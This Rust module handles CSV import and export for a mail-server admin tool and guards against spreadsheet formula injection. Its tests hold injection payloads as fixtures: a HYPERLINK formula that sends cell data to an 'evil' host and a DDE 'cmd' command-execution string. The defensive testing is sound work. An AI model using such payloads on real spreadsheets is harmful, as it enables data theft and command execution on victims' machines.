//! CSV import parsing and export for mailboxes, domains and aliases.
//!
//! Parsing reports every bad line with its number (the header is line 1) and
//! builds nothing when any line is bad. Plaintext mailbox passwords are
//! hashed here, across all cores, before any transaction opens.
//! Export reads keyset pages of `PAGE` rows, so memory stays constant
//! whatever the table size.
//!
//! Formula injection: a spreadsheet runs a cell starting with `=`, `+`,
//! `-`, `@`, TAB or CR as a formula, and names and descriptions come from
//! scoped users. Export prefixes such a cell with `'` (OWASP's rule), and
//! import takes that one `'` off again, so the file round-trips exactly
//! (`neutralize` / `unneutralize`).

use std::io::{Read, Write};

use crate::db::AnyConnection;
use crate::error::{OpError, OpResult};
use crate::model::Status;
use crate::ops::import::{line_errors, AliasRow, DomainRow, MailboxRow};
use crate::ops::{self, Ctx};
use crate::store::{Filter, Page};
use crate::validate;

/// Rows per export page.
pub const PAGE: i64 = 1000;

pub const MAILBOX_HEADER: [&str; 5] = ["address", "password", "quota", "name", "status"];
/// The mailbox's protocol switches (issue 19): optional on import (an
/// older file without them imports with every protocol on), always
/// exported, as yes/no.
pub const MAILBOX_ACCESS: [&str; 4] = ["imap", "pop3", "smtp", "sieve"];
pub const DOMAIN_HEADER: [&str; 8] = [
    "name",
    "description",
    "quota",
    "max_mailboxes",
    "max_aliases",
    "max_mailbox_quota",
    "transport",
    "status",
];
pub const ALIAS_HEADER: [&str; 4] = ["address", "goto", "description", "status"];

/// What makes a spreadsheet read a cell as a formula.
fn formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// A cell as exported: `'` in front when a spreadsheet would run it as a
/// formula. A cell already starting with quotes before such a character
/// (`'=x`) gets one more, so `unneutralize` gives back exactly what was
/// stored; any other cell (`'quoted'`, `-` nowhere first) is unchanged.
pub fn neutralize(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.trim_start_matches('\'').starts_with(formula_start) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as imported: the one `'` that `neutralize` added taken off (a
/// quote followed, after any further quotes, by a formula character);
/// everything else as it is.
pub fn unneutralize(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(formula_start) => rest,
        _ => cell,
    }
}

/// A cell without the characters the input rules refuse (control and bidi
/// characters, `validate::is_unsafe_char`): rows stored before those
/// rules may still hold them. Dropped rather than spelled out: they are
/// invisible, a spreadsheet or `cat` would hand them to the terminal, and
/// an import would refuse the row that kept them.
fn terminal_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.chars().any(validate::is_unsafe_char) {
        std::borrow::Cow::Owned(
            cell.chars()
                .filter(|c| !validate::is_unsafe_char(*c))
                .collect(),
        )
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Write one record with every cell made terminal-safe and neutralized.
fn write_cells<W: Write, const N: usize>(
    w: &mut csv::Writer<W>,
    cells: [&str; N],
) -> csv::Result<()> {
    w.write_record(
        cells
            .iter()
            .map(|c| neutralize(&terminal_safe(c)).into_owned()),
    )
}

/// Columns taken verbatim on import: a plaintext password may begin with
/// `'=` and mean it, and an export never writes one (hashes start `{`).
const VERBATIM: [&str; 1] = ["password"];

/// Read records with their line numbers; the header must name exactly
/// `header`'s columns (in any order). Returns, for each record, its line
/// and its fields in `header`'s order.
fn records<R: Read>(input: R, header: &[&str]) -> OpResult<Vec<(u64, Vec<String>)>> {
    records_opt(input, header, &[])
}

/// `records` with `optional` columns after `header`'s: a file may leave
/// them out (their fields are then empty).
fn records_opt<R: Read>(
    input: R,
    header: &[&str],
    optional: &[&str],
) -> OpResult<Vec<(u64, Vec<String>)>> {
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(true)
        .from_reader(input);
    let got: Vec<String> = rdr
        .headers()
        .map_err(|e| OpError::invalid("file", format!("line 1: {e}")))?
        .iter()
        .map(|h| h.trim().to_ascii_lowercase())
        .collect();
    let mut idx = Vec::with_capacity(header.len());
    for h in header {
        match got.iter().position(|g| g == h) {
            Some(i) => idx.push(i),
            None => {
                return Err(OpError::invalid(
                    "file",
                    format!(
                        "line 1: the header needs the columns {} (missing {h})",
                        header.join(",")
                    ),
                ))
            }
        }
    }
    let opt_idx: Vec<Option<usize>> = optional
        .iter()
        .map(|h| got.iter().position(|g| g == h))
        .collect();
    if let Some(extra) = got
        .iter()
        .find(|g| !header.contains(&g.as_str()) && !optional.contains(&g.as_str()))
    {
        return Err(OpError::invalid(
            "file",
            format!(
                "line 1: unknown column {extra:?}; the columns are {}",
                header.join(",")
            ),
        ));
    }
    let mut out = Vec::new();
    let mut errs = Vec::new();
    for rec in rdr.records() {
        match rec {
            Ok(r) => {
                let line = r.position().map(|p| p.line()).unwrap_or(0);
                if r.len() != got.len() {
                    errs.push((
                        line,
                        format!("has {} fields, the header has {}", r.len(), got.len()),
                    ));
                    continue;
                }
                if r.iter().all(|f| f.trim().is_empty()) {
                    continue;
                }
                let mut fields: Vec<String> = idx
                    .iter()
                    .zip(header)
                    .map(|(&i, h)| {
                        if VERBATIM.contains(h) {
                            r[i].to_string()
                        } else {
                            unneutralize(&r[i]).to_string()
                        }
                    })
                    .collect();
                fields.extend(opt_idx.iter().map(|i| {
                    i.map(|i| unneutralize(&r[i]).to_string())
                        .unwrap_or_default()
                }));
                out.push((line, fields));
            }
            Err(e) => {
                let line = e.position().map(|p| p.line()).unwrap_or(0);
                errs.push((line, e.to_string()));
            }
        }
    }
    if !errs.is_empty() {
        return Err(line_errors(errs));
    }
    Ok(out)
}

/// A protocol switch: yes/no (also true/false, on/off, 1/0); empty: the
/// default (on).
fn switch(field: &str, s: &str) -> OpResult<Option<bool>> {
    match s.trim().to_ascii_lowercase().as_str() {
        "" => Ok(None),
        "yes" | "y" | "true" | "on" | "1" => Ok(Some(true)),
        "no" | "n" | "false" | "off" | "0" => Ok(Some(false)),
        _ => Err(OpError::invalid(
            field,
            "must be yes or no (or empty for yes)",
        )),
    }
}

fn opt(s: &str) -> Option<String> {
    let t = s.trim();
    (!t.is_empty()).then(|| t.to_string())
}

fn status(s: &str) -> OpResult<Status> {
    if s.trim().is_empty() {
        Ok(Status::Active)
    } else {
        Status::parse("status", s)
    }
}

fn size(field: &str, s: &str) -> OpResult<Option<i64>> {
    match opt(s) {
        Some(v) => Ok(Some(validate::size(field, &v)?)),
        None => Ok(None),
    }
}

fn count(field: &str, s: &str) -> OpResult<Option<i64>> {
    match opt(s) {
        Some(v) => v
            .parse::<i64>()
            .map(Some)
            .map_err(|_| OpError::invalid(field, format!("must be a whole number (got {v:?})"))),
        None => Ok(None),
    }
}

/// An error about a mailbox row, with no cell value in it: the rules quote
/// the values they refuse (`"…" is not an address`), but a row whose
/// columns are shifted puts its password in the address, quota, name or
/// status column, and the message would print it (on the terminal, in
/// `--json`, in the TUI). Every quoted string or character becomes `"…"` /
/// `'…'`, and the row's password cell, should it appear unquoted, `***`.
/// The line number and the column still say where to look.
fn without_values(msg: &str, password: &str) -> String {
    let mut out = String::with_capacity(msg.len());
    let mut rest = msg;
    while let Some(c) = rest.chars().next() {
        if c == '"' {
            // A Debug-quoted string: up to the next unescaped quote.
            let body = &rest[1..];
            let mut end = None;
            let mut escaped = false;
            for (i, ch) in body.char_indices() {
                match ch {
                    _ if escaped => escaped = false,
                    '\\' => escaped = true,
                    '"' => {
                        end = Some(i);
                        break;
                    }
                    _ => {}
                }
            }
            match end {
                Some(i) => {
                    out.push_str("\"…\"");
                    rest = &body[i + 1..];
                }
                None => {
                    out.push_str("\"…");
                    rest = "";
                }
            }
            continue;
        }
        if c == '\'' {
            // A Debug-quoted character: 'x' or an escape like '\u{1b}'.
            let body = &rest[1..];
            let lit = match body.chars().next() {
                Some('\\') => body.find('\'').map(|i| i + 1),
                Some(ch) if body[ch.len_utf8()..].starts_with('\'') => Some(ch.len_utf8() + 1),
                _ => None,
            };
            if let Some(n) = lit {
                out.push_str("'…'");
                rest = &body[n..];
                continue;
            }
        }
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    let pw = password.trim();
    if pw.is_empty() {
        out
    } else {
        out.replace(pw, "***")
    }
}

/// A password field before hashing.
enum Pw {
    Hashed(String),
    Plain(String),
}

/// Parse a mailbox CSV and hash its plaintext passwords on every core.
/// `progress(done, total)` reports hashing progress.
pub fn parse_mailboxes<R: Read>(
    input: R,
    min_password_length: usize,
    bcrypt_cost: u32,
    progress: &(dyn Fn(usize, usize) + Sync),
) -> OpResult<Vec<MailboxRow>> {
    Ok(parse_mailboxes_access(input, min_password_length, bcrypt_cost, progress)?.0)
}

/// `parse_mailboxes` with each row's protocol switches (the optional
/// `imap,pop3,smtp,sieve` columns), in the rows' order.
pub fn parse_mailboxes_access<R: Read>(
    input: R,
    min_password_length: usize,
    bcrypt_cost: u32,
    progress: &(dyn Fn(usize, usize) + Sync),
) -> OpResult<(Vec<MailboxRow>, Vec<ops::mailboxes::Access>)> {
    let recs = records_opt(input, &MAILBOX_HEADER, &MAILBOX_ACCESS)?;
    let mut errs = Vec::new();
    let mut rows = Vec::with_capacity(recs.len());
    let mut pws = Vec::with_capacity(recs.len());
    let mut access = Vec::with_capacity(recs.len());
    for (line, f) in recs {
        let parsed = (|| -> OpResult<(MailboxRow, Pw, ops::mailboxes::Access)> {
            validate::mailbox_address("address", &f[0])?;
            let pw = f[1].trim();
            let pw = if crate::password::looks_hashed(pw) {
                match crate::password::normalize_mailbox_hash(pw) {
                    Some(h) => Pw::Hashed(h),
                    None => {
                        return Err(OpError::invalid(
                            "password",
                            "looks like a hash but is not bcrypt ({BLF-CRYPT}$2y$NN$ + 53 characters, or $2b$/$2y$)",
                        ))
                    }
                }
            } else {
                validate::password("password", pw, min_password_length)?;
                Pw::Plain(pw.to_string())
            };
            Ok((
                MailboxRow {
                    line,
                    address: f[0].trim().to_string(),
                    password_hash: String::new(),
                    quota: size("quota", &f[2])?,
                    name: opt(&f[3]),
                    status: status(&f[4])?,
                },
                pw,
                ops::mailboxes::Access {
                    imap: switch("imap", &f[5])?,
                    pop3: switch("pop3", &f[6])?,
                    smtp: switch("smtp", &f[7])?,
                    sieve: switch("sieve", &f[8])?,
                },
            ))
        })();
        match parsed {
            Ok((r, p, a)) => {
                rows.push(r);
                pws.push(p);
                access.push(a);
            }
            Err(e) => errs.push((line, without_values(&e.to_string(), &f[1]))),
        }
    }
    if !errs.is_empty() {
        return Err(line_errors(errs));
    }
    let hashes = hash_all(pws, bcrypt_cost, progress)?;
    for (r, h) in rows.iter_mut().zip(hashes) {
        r.password_hash = h;
    }
    Ok((rows, access))
}

/// bcrypt every plaintext on all cores (std scoped threads over contiguous
/// slices; hashes are independent), keeping order.
fn hash_all(
    pws: Vec<Pw>,
    cost: u32,
    progress: &(dyn Fn(usize, usize) + Sync),
) -> OpResult<Vec<String>> {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let total = pws.iter().filter(|p| matches!(p, Pw::Plain(_))).count();
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .max(1);
    let per = pws.len().div_ceil(threads).max(1);
    let done = AtomicUsize::new(0);
    let results: Vec<OpResult<Vec<String>>> = std::thread::scope(|s| {
        let handles: Vec<_> = pws
            .chunks(per)
            .map(|chunk| {
                let done = &done;
                s.spawn(move || {
                    chunk
                        .iter()
                        .map(|p| match p {
                            Pw::Hashed(h) => Ok(h.clone()),
                            Pw::Plain(pw) => {
                                let h = crate::password::hash_mailbox(pw, cost)
                                    .map_err(|e| OpError::Io(e.to_string()))?;
                                let n = done.fetch_add(1, Ordering::Relaxed) + 1;
                                if n.is_multiple_of(64) || n == total {
                                    progress(n, total);
                                }
                                Ok(h)
                            }
                        })
                        .collect()
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| {
                h.join()
                    .unwrap_or_else(|_| Err(OpError::Io("a hashing thread panicked".into())))
            })
            .collect()
    });
    let mut out = Vec::new();
    for r in results {
        out.extend(r?);
    }
    Ok(out)
}

pub fn parse_domains<R: Read>(input: R) -> OpResult<Vec<DomainRow>> {
    let recs = records(input, &DOMAIN_HEADER)?;
    let mut errs = Vec::new();
    let mut rows = Vec::new();
    for (line, f) in recs {
        let r = (|| -> OpResult<DomainRow> {
            Ok(DomainRow {
                line,
                name: f[0].trim().to_string(),
                input: ops::domains::DomainInput {
                    description: opt(&f[1]),
                    quota_limit: size("quota", &f[2])?,
                    max_mailboxes: count("max_mailboxes", &f[3])?,
                    max_aliases: count("max_aliases", &f[4])?,
                    max_mailbox_quota: size("max_mailbox_quota", &f[5])?,
                    transport: opt(&f[6]),
                    password_max_age_days: None,
                },
                status: status(&f[7])?,
            })
        })();
        match r {
            Ok(r) => rows.push(r),
            Err(e) => errs.push((line, e.to_string())),
        }
    }
    if !errs.is_empty() {
        return Err(line_errors(errs));
    }
    Ok(rows)
}

pub fn parse_aliases<R: Read>(input: R) -> OpResult<Vec<AliasRow>> {
    let recs = records(input, &ALIAS_HEADER)?;
    let mut errs = Vec::new();
    let mut rows = Vec::new();
    for (line, f) in recs {
        match status(&f[3]) {
            Ok(s) => rows.push(AliasRow {
                line,
                address: f[0].trim().to_string(),
                goto: f[1].trim().to_string(),
                description: opt(&f[2]),
                status: s,
            }),
            Err(e) => errs.push((line, e.to_string())),
        }
    }
    if !errs.is_empty() {
        return Err(line_errors(errs));
    }
    Ok(rows)
}

fn io(e: impl std::fmt::Display) -> OpError {
    OpError::Io(format!("writing the export: {e}"))
}

/// Write `header`, then every row `list` returns, page after page in name
/// order (the key of the last row is where the next page starts), through
/// `record`; memory is one page whatever the table size. Returns the rows.
fn export_pages<W: Write, T>(
    out: W,
    header: &[&str],
    mut list: impl FnMut(&Page) -> OpResult<Vec<T>>,
    key: impl Fn(&T) -> &str,
    mut record: impl FnMut(&mut csv::Writer<W>, &T) -> csv::Result<()>,
) -> OpResult<u64> {
    let mut w = csv::Writer::from_writer(out);
    w.write_record(header).map_err(io)?;
    let mut page = Page {
        after: None,
        limit: Some(PAGE),
        backward: false,
    };
    let mut n = 0u64;
    loop {
        let rows = list(&page)?;
        for r in &rows {
            record(&mut w, r).map_err(io)?;
        }
        n += rows.len() as u64;
        match rows.last() {
            Some(last) if rows.len() as i64 == PAGE => page.after = Some(key(last).to_string()),
            _ => break,
        }
    }
    w.flush().map_err(io)?;
    Ok(n)
}

/// Stream every mailbox the user may see (optionally of one domain) as CSV.
/// The password column is empty unless `with_hashes` and the user is an
/// admin (`ops::mailboxes::export_hashes` decides, and refuses anyone else
/// who asks); then it holds the stored bcrypt hashes, so the file imports
/// back unchanged. Returns the number of rows.
pub fn export_mailboxes<W: Write>(
    conn: &mut AnyConnection,
    ctx: &Ctx,
    filter: &Filter,
    with_hashes: bool,
    out: W,
) -> OpResult<u64> {
    let domain = match filter.domain_id {
        Some(id) => crate::store::domains::by_id(conn, id)?.map(|d| d.name),
        None => None,
    };
    let hashes = ops::mailboxes::export_hashes(conn, ctx, with_hashes, domain.as_deref())?;
    let header: Vec<&str> = MAILBOX_HEADER
        .iter()
        .chain(&MAILBOX_ACCESS)
        .copied()
        .collect();
    let yn = |b: bool| if b { "yes" } else { "no" };
    export_pages(
        out,
        &header,
        |page| ops::mailboxes::list(conn, ctx, filter, page),
        |m| m.username.as_str(),
        |w, m| {
            write_cells(
                w,
                [
                    m.username.as_str(),
                    if hashes { m.password_hash.as_str() } else { "" },
                    &m.quota_limit.to_string(),
                    m.name.as_deref().unwrap_or(""),
                    m.status.as_str(),
                    yn(m.imap_enabled),
                    yn(m.pop3_enabled),
                    yn(m.smtp_enabled),
                    yn(m.sieve_enabled),
                ],
            )
        },
    )
}

pub fn export_domains<W: Write>(
    conn: &mut AnyConnection,
    ctx: &Ctx,
    filter: &Filter,
    out: W,
) -> OpResult<u64> {
    export_pages(
        out,
        &DOMAIN_HEADER,
        |page| ops::domains::list(conn, ctx, filter, page),
        |d| d.name.as_str(),
        |w, d| {
            write_cells(
                w,
                [
                    d.name.as_str(),
                    d.description.as_deref().unwrap_or(""),
                    &d.quota_limit.to_string(),
                    &d.max_mailboxes.to_string(),
                    &d.max_aliases.to_string(),
                    &d.max_mailbox_quota.to_string(),
                    d.transport.as_deref().unwrap_or(""),
                    d.status.as_str(),
                ],
            )
        },
    )
}

pub fn export_aliases<W: Write>(
    conn: &mut AnyConnection,
    ctx: &Ctx,
    filter: &Filter,
    out: W,
) -> OpResult<u64> {
    export_pages(
        out,
        &ALIAS_HEADER,
        |page| ops::aliases::list(conn, ctx, filter, page),
        |a| a.address.as_str(),
        |w, a| {
            write_cells(
                w,
                [
                    a.address.as_str(),
                    a.goto.as_str(),
                    a.description.as_deref().unwrap_or(""),
                    a.status.as_str(),
                ],
            )
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_one_quote_and_lose_it_again() {
        for (stored, exported) in [
            (
                "=HYPERLINK(\"http://evil/?x=\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil/?x=\"&A1,\"x\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-1+1", "'-1+1"),
            ("@SUM(1,2)", "'@SUM(1,2)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=x", "''=x"),
            ("''+x", "'''+x"),
            ("'quoted' name", "'quoted' name"),
            ("'", "'"),
            ("", ""),
            ("plain -1", "plain -1"),
            ("5", "5"),
        ] {
            assert_eq!(neutralize(stored), exported, "{stored:?}");
            assert_eq!(unneutralize(exported), stored, "{exported:?}");
        }
        // A hand-written value not from an export: only a quote before a
        // formula character goes.
        assert_eq!(unneutralize("'5"), "'5");
        assert_eq!(unneutralize("-1"), "-1");
    }
}

#[cfg(test)]
mod value_tests {
    use super::without_values;

    #[test]
    fn errors_lose_their_quoted_values() {
        assert_eq!(
            without_values("address: \"S3cret \\\"pw\" is not an address", "x"),
            "address: \"…\" is not an address"
        );
        assert_eq!(
            without_values(
                "address: labels (\"s3cr3t\" in \"a.s3cr3t\") (found '&', '\\u{1b}')",
                ""
            ),
            "address: labels (\"…\" in \"…\") (found '…', '…')"
        );
        assert_eq!(
            without_values("quota: don't say hunter2-long-pw here", "hunter2-long-pw"),
            "quota: don't say *** here"
        );
    }
}
